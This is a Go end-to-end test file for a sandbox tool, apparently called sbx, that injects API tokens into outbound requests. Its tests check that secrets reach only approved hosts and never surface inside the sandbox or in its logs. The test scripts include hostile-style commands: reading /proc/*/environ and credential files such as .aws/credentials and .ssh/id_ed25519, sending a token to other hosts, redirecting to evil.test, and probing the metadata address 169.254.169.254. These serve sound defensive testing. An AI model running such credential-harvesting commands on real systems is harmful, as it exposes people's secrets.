package e2e

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/fractalboxdev/sbx/internal/event"
	"github.com/fractalboxdev/sbx/internal/sbxtest"
)

// token has everything that encodings change.
const token = `cf+S3cr3t/T0ken&="quoted"~<tag>\end`

const hex32 = "0123456789abcdef0123456789abcdef"

// withEnv runs a script in the sandbox with variables in sbx's own environment.
func withEnv(t *testing.T, lab *sbxtest.Lab, who sbxtest.User, env []string, script string, flags ...string) sbxtest.Result {
	t.Helper()
	argv := append(append([]string{"sbx", "exec"}, flags...), "--", "bash", "-c", script)
	cmd := lab.Command(t, who, argv...)
	cmd.Env = append(cmd.Env, env...)
	return lab.RunCommand(t, who, cmd)
}

// secretsOf is the receipt's list.
func secretsOf(t *testing.T, got sbxtest.Result) []event.Secret {
	t.Helper()
	text, err := json.Marshal(got.Receipt(t)["secrets"])
	if err != nil {
		t.Fatal(err)
	}
	var list []event.Secret
	if err := json.Unmarshal(text, &list); err != nil {
		t.Fatal(err)
	}
	return list
}

// injected demands one secret and how often it was sent.
func injected(t *testing.T, got sbxtest.Result, name string, times int64) {
	t.Helper()
	list := secretsOf(t, got)
	if len(list) != 1 || list[0].Name != name || list[0].Injected != times || list[0].Set != (times > 0) {
		t.Errorf("secrets %+v, want %s sent %d times", list, name, times)
	}
}

func ok(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "%s %s", r.Method, r.URL.Path) }

const status = "curl -sS -m 20 -o /dev/null -w '%{http_code} ' "

func TestVector20_CloudflareWithItsToken(t *testing.T) {
	lab := sbxtest.NewLab(t)
	server := lab.Serve("api.cloudflare.com", http.HandlerFunc(ok))
	base := "https://api.cloudflare.com/client/v4/accounts/"
	everyone(t, func(t *testing.T, who sbxtest.User) {
		before := len(server.Requests())
		script := strings.Join([]string{
			status + "-d x " + base + hex32 + "/workers/scripts/x",
			status + "-d x " + base + hex32 + "/r2/buckets",
			status + "https://api.cloudflare.com/client/v4/zones",
			status + "-X DELETE " + base + hex32 + "/workers/scripts/x",
			status + base + hex32[1:] + "/workers/scripts",
			status + base + strings.ToUpper(hex32) + "/workers/scripts",
			status + "http://api.cloudflare.com/client/v4/memberships",
		}, ";")
		got := withEnv(t, lab, who, []string{"CLOUDFLARE_API_TOKEN=" + token}, script, "--profile", "cf-api")
		printed(t, got, "200 403 403 403 403 403 403 ")
		requests := server.Requests()[before:]
		if len(requests) != 1 || requests[0].Header.Get("Authorization") != "Bearer "+token {
			t.Errorf("upstream saw %+v", requests)
		}
		injected(t, got, "CLOUDFLARE_API_TOKEN", 1)
	})
}

func TestVector21_CloudflareWithoutItsToken(t *testing.T) {
	lab := sbxtest.NewLab(t)
	server := lab.Serve("api.cloudflare.com", http.HandlerFunc(ok))
	everyone(t, func(t *testing.T, who sbxtest.User) {
		for _, env := range [][]string{nil, {"CLOUDFLARE_API_TOKEN="}} {
			got := withEnv(t, lab, who, env, "curl -si https://api.cloudflare.com/client/v4/memberships", "--profile", "cf-api")
			says(t, got.Stdout, " 403", "credential-missing")
			if strings.Contains(strings.ToLower(got.Stdout), "cloudflare") {
				t.Errorf("inside it is named: %s", got.Stdout)
			}
			row := onlyDenial(t, got)
			if row.Code != "credential-missing" || !strings.Contains(row.Reason, "the secret CLOUDFLARE_API_TOKEN is not set") {
				t.Errorf("%+v", row)
			}
			injected(t, got, "CLOUDFLARE_API_TOKEN", 0)
		}
		if len(server.Requests()) != 0 {
			t.Error("a request left without its token")
		}
	})
}

func TestVector23_ASecretWithANewlineIsRefused(t *testing.T) {
	lab := sbxtest.NewLab(t)
	everyone(t, func(t *testing.T, who sbxtest.User) {
		got := withEnv(t, lab, who, []string{"CLOUDFLARE_API_TOKEN=" + token + "\n"}, "true", "--profile", "cf-api")
		refused(t, got, "the secret CLOUDFLARE_API_TOKEN", "newline", "not trimmed", "printf")
		if strings.Contains(got.Stderr+got.Stdout, token) {
			t.Error("the refusal shows the secret")
		}
	})
}

func TestVector18_RegistryWithAndWithoutAToken(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Configure(npmRegistry)
	registry := lab.ServeNPM(t, "npm.test", sbxtest.Package{Name: "pkg", Version: "1.0.0"})
	everyone(t, func(t *testing.T, who sbxtest.User) {
		lab.Write(who, "package.json", `{"name": "root", "version": "1.0.0", "dependencies": {"pkg": "1.0.0"}}`)
		for _, c := range []struct {
			env  []string
			want string
			sent bool
		}{{nil, "", false}, {[]string{"NPM_TOKEN=npm_hunter22"}, "Bearer npm_hunter22", true}} {
			before := len(registry.Requests())
			got := withEnv(t, lab, who, c.env, "rm -rf node_modules package-lock.json; npm install --no-audit && ls node_modules", "--profile", "js-install", "--no-cache")
			succeeded(t, got)
			noDenials(t, got)
			requests := registry.Requests()[before:]
			if len(requests) == 0 || slices.ContainsFunc(requests, func(r sbxtest.Received) bool { return r.Header.Get("Authorization") != c.want }) {
				t.Errorf("%v: upstream saw %+v", c.env, requests)
			}
			n := int64(0)
			if c.sent {
				n = int64(len(requests))
			}
			injected(t, got, "NPM_TOKEN", n)
		}
	})
}

// secretProfile grants three hosts, of which two get a secret: from a file in the
// user's home, and from a command.
const secretProfile = `
[profiles.NAME]
version = 1
summary = "secrets of all kinds"
[profiles.NAME.credentials.git]
file = "~/.secret-git"
host = "git.test"
basic = true
username = "x"
required = true
placeholder = "GIT_TOKEN"
[profiles.NAME.credentials.api]
command = ["/usr/bin/cat", "/HOME/.secret-api"]
host = "api.test"
header = "X-Widget-Key"
template = "{secret}"
[[profiles.NAME.rules]]
id = "git"
host = "git.test"
methods = ["GET", "POST"]
path = "/**"
max_body = "1MiB"
headers = "preserve"
credential = "git"
allow = ["GET https://git.test/r"]
deny = ["PUT https://git.test/r length=1"]
[[profiles.NAME.rules]]
id = "api"
host = "api.test"
methods = ["GET"]
path = "/v1/**"
headers = "preserve"
redirects = "REDIRECTS"
credential = "api"
allow = ["GET https://api.test/v1/r"]
deny = ["GET https://api.test/v2/r"]
[[profiles.NAME.rules]]
id = "s3"
host = "s3.test"
protocol = ["https", "http"]
methods = ["GET"]
path = "/**"
headers = "preserve"
allow = ["GET https://s3.test/f", "GET http://s3.test/f"]
deny = ["POST https://s3.test/f length=1"]
`

// holdSecrets gives the user both secrets and an approved profile that sends them.
func holdSecrets(t *testing.T, lab *sbxtest.Lab, who sbxtest.User, redirects string) (flags []string) {
	t.Helper()
	reviewer(t, lab, who)
	inHome(t, lab, who, ".secret-git", token)
	inHome(t, lab, who, ".secret-api", "api-"+token)
	name := "x-secrets-" + who.String() + "-" + redirects
	text := strings.NewReplacer("NAME", name, "HOME", strings.TrimPrefix(lab.Home(who), "/"), "REDIRECTS", redirects).Replace(secretProfile)
	host(t, lab, who, 0, "rm", "-f", "secrets.toml", "secrets.toml.approval")
	lab.Write(who, "secrets.toml", text)
	host(t, lab, who, 0, "sbx", "profiles", "approve", "secrets.toml", "--key", "../key")
	return []string{"--profile-file", "secrets.toml", "--profile", name}
}

// TestCase71_PlaceholderInBasicAuth: whatever a client makes of the placeholder,
// or without one, the host gets the user and the real password; inside there is
// only the placeholder.
func TestCase71_PlaceholderInBasicAuth(t *testing.T) {
	lab := sbxtest.NewLab(t)
	server := lab.ServePrivateGit(t, "git.test", "r", "x", token, map[string]string{"file": "content"})
	everyone(t, func(t *testing.T, who sbxtest.User) {
		flags := append(holdSecrets(t, lab, who, "pass"), "--no-cache")
		before := len(server.Requests())
		refs := status + "'https://git.test/r.git/info/refs?service=git-upload-pack' "
		script := strings.Join([]string{
			"git clone -q https://x:$GIT_TOKEN@git.test/r /tmp/a && cat /tmp/a/file",
			"git -c credential.helper='!f() { echo username=x; echo password=$GIT_TOKEN; }; f' clone -q https://git.test/r /tmp/b && cat /tmp/b/file",
			refs + "-u x:$GIT_TOKEN", refs + "-H \"Authorization: Bearer $GIT_TOKEN\"", refs + "-u $GIT_TOKEN:", refs,
			"printf 'machine git.test login x password %s\\n' $GIT_TOKEN > ~/.netrc", refs + "-n", "rm ~/.netrc",
			"printf '//git.test/:_authToken=%s\\n' $GIT_TOKEN > ~/.npmrc; npm view --registry https://git.test/ pkg 2>&1 | grep -o -m1 E404; rm ~/.npmrc",
			"echo; cat /proc/*/environ /proc/*/cmdline /tmp/a/.git/config | tr '\\0' '\\n'",
		}, ";")
		got := shell(t, lab, who, script, flags...)
		succeeded(t, got)
		noDenials(t, got)
		says(t, got.Stdout, "contentcontent200 200 200 200 200 ", "GIT_TOKEN=sbxplaceholder", "E404")
		noSecret(t, lab, who, got)
		for _, r := range server.Requests()[before:] {
			if user, password, _ := (&http.Request{Header: r.Header}).BasicAuth(); user != "x" || password != token {
				t.Errorf("upstream saw %v of %s", r.Header, r.Target)
			}
		}
		// Another slot, another host: refused.
		for _, wrong := range []string{"-H \"X-Other: $GIT_TOKEN\" https://git.test/r", "https://git.test/r?t=$GIT_TOKEN", "-u x:$GIT_TOKEN https://s3.test/f", "http://s3.test/$GIT_TOKEN"} {
			got := shell(t, lab, who, status+wrong, flags...)
			printed(t, got, "403 ")
			if row := onlyDenial(t, got); row.Code != "placeholder-misplaced" {
				t.Errorf("%s: %+v", wrong, row)
			}
		}
		// A wrong secret is the host's own 401.
		inHome(t, lab, who, ".secret-git", "wrong"+token)
		got = shell(t, lab, who, refs+"-u x:$GIT_TOKEN", flags...)
		printed(t, got, "401 ")
		noDenials(t, got)
	})
}

// spellings are how a secret is written by programs.
func spellings(text string) []string {
	json, _ := json.Marshal(text)
	out := []string{
		text, url.QueryEscape(text), url.PathEscape(text), hex.EncodeToString([]byte(text)), strings.Trim(string(json), `"`),
		text[:len(text)*2/3], text[len(text)/3:],
	}
	for i := range 3 {
		encoded := base64.RawStdEncoding.EncodeToString([]byte("xyz"[:i] + text))
		out = append(out, encoded[4:len(encoded)-2], strings.NewReplacer("+", "-", "/", "_").Replace(encoded[4:len(encoded)-2]))
	}
	return out
}

// noSecret looks for the secret in everything that a run left, but the user's own files.
func noSecret(t *testing.T, lab *sbxtest.Lab, who sbxtest.User, got sbxtest.Result) {
	t.Helper()
	texts := map[string]string{"stdout": got.Stdout, "stderr": got.Stderr}
	for _, dir := range []string{lab.StateDir(who), filepath.Join(lab.Project(who), "artifacts"), lab.Project(who)} {
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				text, err := os.ReadFile(path)
				texts[path] = string(text)
				return err
			}
			if os.IsNotExist(err) {
				return nil
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if len(texts) < 6 {
		t.Fatalf("only %d files were looked at", len(texts))
	}
	for name, text := range texts {
		for _, spelling := range spellings(token) {
			if strings.Contains(text, spelling) {
				t.Errorf("%s holds the secret as %q", name, spelling)
			}
		}
	}
}

// TestCase72_InjectionDoesNotFollow: a presigned URL elsewhere gets nothing of
// ours, whoever follows the redirect.
func TestCase72_InjectionDoesNotFollow(t *testing.T) {
	const signed = "/f?X-Amz-Signature=a%2Fb&X-Amz-Credential=k&token=own"
	lab := sbxtest.NewLab(t)
	api := lab.Serve("api.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/v1/presigned":
			http.Redirect(w, r, "https://s3.test"+signed, http.StatusFound)
		case "/v1/same":
			http.Redirect(w, r, "/v1/end", http.StatusFound)
		case "/v1/plain":
			http.Redirect(w, r, "http://api.test/v1/end", http.StatusFound)
		case "/v1/port":
			http.Redirect(w, r, "https://api.test:8443/v1/end", http.StatusFound)
		}
	}))
	s3 := lab.Serve("s3.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for name := range r.Header {
			if name != "Accept" && name != "User-Agent" {
				http.Error(w, "Only one auth mechanism allowed: "+name, 400)
				return
			}
		}
		if r.RequestURI != signed || r.Host != "s3.test" {
			http.Error(w, "signature", http.StatusForbidden)
		}
	}))
	everyone(t, func(t *testing.T, who sbxtest.User) {
		for _, mode := range []string{"pass", "follow"} {
			flags := holdSecrets(t, lab, who, mode)
			before := len(api.Requests())
			curl := "curl -sSL -m 20 -o /dev/null -w '%{http_code} ' https://api.test/v1/"
			got := shell(t, lab, who, strings.Join([]string{curl + "presigned", curl + "same", curl + "plain", curl + "port", status + "https://api.test.evil.test/v1/x"}, ";"), flags...)
			printed(t, got, "200 200 403 403 520 ")
			requests := api.Requests()[before:]
			if len(requests) != 5 {
				t.Errorf("%s: %d requests to api.test", mode, len(requests))
			}
			for _, r := range requests {
				if r.Header.Get("X-Widget-Key") != "api-"+token || !r.TLS {
					t.Errorf("%s: upstream saw %+v", mode, r)
				}
			}
			counts := map[string]int64{}
			for _, s := range secretsOf(t, got) {
				counts[s.Name] = s.Injected
			}
			if want := flags[3] + "/api"; counts[want] != 5 || counts[flags[3]+"/git"] != 0 {
				t.Errorf("%s: %v", mode, counts)
			}
			noSecret(t, lab, who, got)
		}
		if len(s3.Requests()) == 0 {
			t.Error("s3.test was not asked")
		}
	})
}

// TestCase74_SecretsNeverSurface: the host repeats what it was sent in every way;
// none of it arrives inside or in a record.
func TestCase74_SecretsNeverSurface(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Serve("git.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		switch r.URL.Path {
		case "/location":
			http.Redirect(w, r, "https://git.test/?t="+url.QueryEscape(password), http.StatusFound)
		case "/elsewhere":
			http.Redirect(w, r, "https://evil.test/"+url.PathEscape(password), http.StatusFound)
		case "/cookie":
			w.Header().Set("Set-Cookie", "t="+hex.EncodeToString([]byte(password)))
		case "/error":
			http.Error(w, "you sent "+r.Header.Get("Authorization"), 500)
		case "/json":
			_ = json.NewEncoder(w).Encode(map[string]string{"password": password})
		default:
			_, _ = fmt.Fprint(w, strings.Repeat("some text\n", 100), password)
		}
	}))
	everyone(t, func(t *testing.T, who sbxtest.User) {
		flags := append(holdSecrets(t, lab, who, "pass"), "--artifacts", "artifacts", "--env", "VERBOSE=1")
		host(t, lab, who, 0, "rm", "-rf", "artifacts")
		var script strings.Builder
		for _, path := range []string{"location", "elsewhere", "cookie", "error", "json", "body", "denied?token=own"} {
			for _, how := range []string{"", "--http1.1 ", "--compressed "} {
				fmt.Fprintf(&script, "curl -sSvi -m 20 %s-u x:$GIT_TOKEN 'https://git.test/%s' >>seen 2>&1; ", how, path)
			}
		}
		script.WriteString("cat seen; curl -s https://u:p@denied.test/path-$GIT_TOKEN; env; cat /proc/*/environ | tr '\\0' '\\n'; mkdir -p $HOME/x; true")
		got := shell(t, lab, who, script.String(), flags...)
		succeeded(t, got)
		noSecret(t, lab, who, got)
		echoed := 0
		for _, row := range got.Denials(t) {
			if row.Code == "credential-echoed" {
				echoed += row.Count
				says(t, row.Reason, "the secret "+flags[3]+"/git")
			}
		}
		if echoed != 21 {
			t.Errorf("%d responses were cut, want 21: %+v", echoed, got.Denials(t))
		}
		closedToOthers(t, lab.StateDir(who))
		// Given away by the caller, it does not run.
		for _, leak := range [][]string{{"--env", "T=" + token}, {"--env", "T=a" + base64.StdEncoding.EncodeToString([]byte(token))}} {
			refused(t, shell(t, lab, who, "true", append(leak, flags[:4]...)...), "would see the secret", "variable T")
		}
		exposed := shell(t, lab, who, "echo "+token, flags[:4]...)
		refused(t, exposed, "would see the secret", "arguments")
		noSecret(t, lab, who, exposed)
	})
}

// closedToOthers demands that nobody else can read records.
func closedToOthers(t *testing.T, dir string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err == nil && path != dir && info.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s has the mode %s", path, info.Mode())
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestVector19_OwnCredentialsNeverGoUpstream(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Configure(npmRegistry)
	server := lab.Serve("npm.test", http.HandlerFunc(ok))
	everyone(t, func(t *testing.T, who sbxtest.User) {
		for _, env := range [][]string{nil, {"NPM_TOKEN=npm_hunter22"}} {
			before := len(server.Requests())
			got := withEnv(t, lab, who, env, status+"-H 'authorization: Bearer own' -b 'c=own' -H 'x-api-key: own' -H 'proxy-authorization: own' -u a:own 'https://npm.test/pkg?token=own'", "--profile", "js-install")
			printed(t, got, "200 ")
			for _, r := range server.Requests()[before:] {
				text := fmt.Sprint(r.Header)
				if strings.Contains(text, "own") || env != nil && strings.Contains(r.Target, "own") {
					t.Errorf("upstream saw %s %s", r.Target, text)
				}
			}
		}
	})
}

func TestVector22_CloudflareTokenStaysAtHome(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Configure(npmRegistry)
	lab.Serve("api.cloudflare.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://npm.test/pkg", http.StatusTemporaryRedirect)
	}))
	npm := lab.Serve("npm.test", http.HandlerFunc(ok))
	everyone(t, func(t *testing.T, who sbxtest.User) {
		before := len(npm.Requests())
		got := withEnv(t, lab, who, []string{"CLOUDFLARE_API_TOKEN=" + token}, status+"-L --location-trusted -H 'Authorization: Bearer x' https://api.cloudflare.com/client/v4/memberships",
			"--profile", "cf-api", "--profile", "js-install")
		printed(t, got, "200 ")
		if requests := npm.Requests()[before:]; len(requests) != 1 || requests[0].Header.Get("Authorization") != "" {
			t.Errorf("npm.test saw %+v", requests)
		}
	})
}

func TestVector24_GitHubReadsOnly(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Serve("api.github.com", http.HandlerFunc(ok))
	everyone(t, func(t *testing.T, who sbxtest.User) {
		read, write := status+"https://api.github.com/repos/x/y;", status+"-d {} https://api.github.com/graphql"
		printed(t, shell(t, lab, who, read), "520 ")
		printed(t, shell(t, lab, who, read+write, "--profile", "github-api-read"), "200 403 ")
	})
}

// TestVector27_ReportReachesAndRecords: the host that is not granted answers, the
// row says would_deny, and nobody gets a credential.
func TestVector27_ReportReachesAndRecords(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Configure(npmRegistry)
	unlisted, npm := lab.Serve("unlisted.test", http.HandlerFunc(ok)), lab.Serve("npm.test", http.HandlerFunc(ok))
	everyone(t, func(t *testing.T, who sbxtest.User) {
		for _, position := range []string{"report", "legacy"} {
			before, asked := len(unlisted.Requests()), len(npm.Requests())
			got := withEnv(t, lab, who, []string{"NPM_TOKEN=npm_hunter22"}, "curl -sS -u own:own -X PUT -d x https://unlisted.test/a; curl -sS https://npm.test/pkg; curl -sS -X PUT https://npm.test/pkg",
				"--profile", "js-install", "--position", position, "--fail-on-denial")
			printed(t, got, "PUT /aGET /pkgPUT /pkg")
			says(t, got.Stderr, "WARNING: position "+position, "NOT enforced")
			requests := append(unlisted.Requests()[before:], npm.Requests()[asked:]...)
			if len(requests) != 3 || requests[0].Header.Get("Authorization") == "" || requests[1].Header.Get("Authorization")+requests[2].Header.Get("Authorization") != "" {
				t.Errorf("%s: upstream saw %+v", position, requests)
			}
			receipt := got.Receipt(t)
			if receipt["position"] != position || receipt["result"].(map[string]any)["denials"] != 0.0 {
				t.Errorf("%s: receipt %v %v", position, receipt["position"], receipt["result"])
			}
			rows := got.Denials(t)
			if position == "legacy" {
				if again := host(t, lab, who, 0, "sbx", "explain", "--from", got.RunDir); strings.Count(again, "undecided") != 3 {
					t.Errorf("judged again: %s", again)
				}
				if len(rows) != 0 {
					t.Errorf("rows %+v", rows)
				}
				continue
			}
			if again := host(t, lab, who, 0, "sbx", "explain", "--from", got.RunDir); strings.Count(again, "same") != 3 {
				t.Errorf("judged again: %s", again)
			}
			says(t, got.Stderr, "would deny PUT https://unlisted.test/a", "2 requests would be denied")
			if len(rows) != 2 || !rows[0].WouldDeny || rows[0].Host != "unlisted.test" || rows[1].Code != "method-not-granted" || receipt["result"].(map[string]any)["would_deny"] != 2.0 {
				t.Errorf("rows %+v, %v", rows, receipt["result"])
			}
			if s := secretsOf(t, got); len(s) != 1 || !s[0].Set || s[0].Injected != 0 {
				t.Errorf("secrets %+v", s)
			}
		}
		// Without a profile, too; and internal addresses stay refused.
		got := shell(t, lab, who, status+"https://unlisted.test/; "+status+"http://10.0.0.1/; "+status+"http://169.254.169.254/", "--position", "report")
		printed(t, got, "200 403 403 ")
		says(t, got.Stderr, "2 requests denied, 1 request would be denied")
		bad := run(t, lab, who, "--position", "Report", "--", "true")
		refused(t, bad, "--position Report is none", "enforce, report, legacy")
	})
}

// TestBypass42_OptionsOnlyNarrow: no flag gives the command what its profile sends
// for it.
func TestBypass42_OptionsOnlyNarrow(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Configure(npmRegistry + "\n[env]\nallow = [\"NPM_TOKEN\"]\n")
	everyone(t, func(t *testing.T, who sbxtest.User) {
		got := withEnv(t, lab, who, []string{"NPM_TOKEN=npm_hunter22"}, "env", "--profile", "js-install")
		refused(t, got, "the command would see the secret NPM_TOKEN in the variable NPM_TOKEN", "leave it out")
	})
}

// TestBypass43_NoLoginIsVisible: nothing of the user's logins can be asked for a
// live token.
func TestBypass43_NoLoginIsVisible(t *testing.T) {
	lab := sbxtest.NewLab(t)
	everyone(t, func(t *testing.T, who sbxtest.User) {
		logins := []string{".config/gh/hosts.yml", ".npmrc", ".netrc", ".git-credentials", ".aws/credentials", ".config/gcloud/credentials.db", ".docker/config.json", ".ssh/id_ed25519", ".cargo/credentials.toml"}
		for _, name := range logins {
			inHome(t, lab, who, name, "login "+token+"\n")
		}
		env := []string{"GH_TOKEN=" + token, "GITHUB_TOKEN=" + token, "AWS_SECRET_ACCESS_KEY=" + token, "SSH_AUTH_SOCK=/tmp/agent", "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/bus", "XDG_RUNTIME_DIR=/run/user/0", "GPG_AGENT_INFO=x"}
		script := "env; cat /proc/*/environ | tr '\\0' '\\n'; cd ~; cat " + strings.Join(logins, " ") + "; ls -A ~; ls -A /run /run/user 2>/dev/null; true"
		got := withEnv(t, lab, who, env, script)
		succeeded(t, got)
		for _, word := range []string{token, "GH_TOKEN", "AWS_SECRET", "SSH_AUTH_SOCK", "DBUS_", "XDG_RUNTIME_DIR", "GPG_AGENT"} {
			if strings.Contains(got.Stdout, word) {
				t.Errorf("inside there is %q: %s", word, got.Stdout)
			}
		}
		for _, name := range logins {
			if err := os.Remove(filepath.Join(lab.Home(who), name)); err != nil {
				t.Fatal(err)
			}
		}
	})
}
